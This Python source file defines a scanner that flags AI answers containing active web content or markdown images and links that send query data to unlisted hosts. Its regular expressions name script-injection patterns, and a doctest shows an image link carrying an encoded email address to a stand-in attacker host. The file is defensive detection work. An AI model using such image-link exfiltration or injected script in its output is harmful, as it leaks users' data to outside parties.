"""Finds answers that run where they are shown, or carry data out by a picture or a link.

Code that an answer shows as code is no such thing: fenced and quoted parts are left out.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from monitoring_pipelines.security.facts import OUTPUT
from monitoring_pipelines.security.scanner import Hit, Scanner

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

NAME = "unsafe_output"
# a fence begins a line; signs of code that nothing closes show as they are, and hide nothing
_CODE = re.compile(
    r"^[ \t>]{0,8}(```|~~~).*?(?:^[ \t>]{0,8}\1|\Z)|```[^`]{1,4000}```|`[^`\n]{1,400}`",
    re.DOTALL | re.MULTILINE,
)
_ACTIVE = re.compile(
    r"(?i)<\s{0,3}(?:script|iframe|object|embed|svg[^>]{0,200}\son\w{2,20}\s?=)\b"
    r"|<[a-z][^<>]{0,300}\son(?:error|load|click|mouseover|focus|toggle)\s{0,3}="
    r"|(?:href|src|action)\s{0,3}=\s{0,3}[\"']?\s{0,3}(?:javascript|vbscript|data:text/html)"
    r"|\]\(\s{0,3}(?:javascript|vbscript|data:text/html)"
)
_LINK = re.compile(r"(?i)(!?)\[[^\]\n]{0,300}\](?:\(|:)\s{0,3}<?((?:https?:)?//[^\s<>)\"]{1,2000})")
_IMG = re.compile(r"(?i)<img\b[^<>]{0,300}?\bsrc\s{0,3}=\s{0,3}[\"']?(https?://[^\s<>\"']{1,2000})")
ACTIVE = "active content"
PICTURE, LINK = "picture of an unlisted host", "link of an unlisted host"
KINDS = (ACTIVE, PICTURE, LINK)
# a value of this length carries something out
MIN_QUERY = 12


def unsafe_output(hosts: Sequence[str]) -> Scanner:
    """A scanner for active content, and for links with a query to hosts that are not in `hosts`.

    >>> scanner = unsafe_output(["bank.org"])
    >>> [h.kind for h in scanner.scan("![x](https://evil.io/p.png?d=YW5hQGJhbmsub3Jn)")]
    ['picture of an unlisted host']
    """
    known = tuple(host.casefold() for host in hosts)

    def is_listed(url: str) -> bool:
        try:
            host = (urlsplit(url).hostname or "").casefold()
        except ValueError:
            return False
        return any(host == one or host.endswith(f".{one}") for one in known)

    def scan(text: str) -> Iterator[Hit]:
        shown = _CODE.sub(" ", text)
        if _ACTIVE.search(shown):
            yield Hit(ACTIVE, "")
        pictures = [match[1] for match in _IMG.finditer(shown)]
        links: list[str] = []
        for match in _LINK.finditer(shown):
            (pictures if match[1] else links).append(match[2])
        for kind, urls in ((PICTURE, pictures), (LINK, links)):
            if any(_carries(url) and not is_listed(url) for url in urls):
                yield Hit(kind, "")

    return Scanner(
        name=NAME,
        reads=frozenset({OUTPUT}),
        hint=r"(?i:\][(:]|<\s{0,3}[a-z])",
        scan=scan,
    )


def _carries(url: str) -> bool:
    return len(url.partition("?")[2]) >= MIN_QUERY
